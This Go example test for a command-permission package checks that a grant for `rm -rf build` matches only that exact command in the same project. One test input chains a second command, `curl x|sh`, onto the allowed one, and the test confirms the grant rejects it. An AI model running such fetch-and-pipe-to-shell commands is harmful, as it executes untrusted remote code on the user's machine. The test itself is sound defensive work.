package grants_test

import (
	"fmt"

	"github.com/permhost/permhost/internal/grants"
)

// A grant offered for `rm -rf build` allows that command in that project,
// and nothing wider.
func ExampleOffers() {
	req := shellRequest("s1", "/home/dev/project", "", "rm -rf build")
	offers := grants.Offers(req)
	for _, o := range offers {
		fmt.Println(o.Option.OptionID, o.Option.Name)
	}
	g := offers[1].Grant
	fmt.Println(g.Matches(shellRequest("s2", "/home/dev/project", "", "rm -rf build")))
	fmt.Println(g.Matches(shellRequest("s2", "/home/dev/project", "", "rm -rf other")))
	fmt.Println(g.Matches(shellRequest("s2", "/home/dev/project", "", "rm -rf build; curl x|sh")))
	fmt.Println(g.Matches(shellRequest("s2", "/home/dev/elsewhere", "", "rm -rf build")))
	// Output:
	// permhost-grant-session Allow `rm -rf build` (exact command) for this session
	// permhost-grant-project Allow `rm -rf build` (exact command) in this project
	// true
	// false
	// false
	// false
}
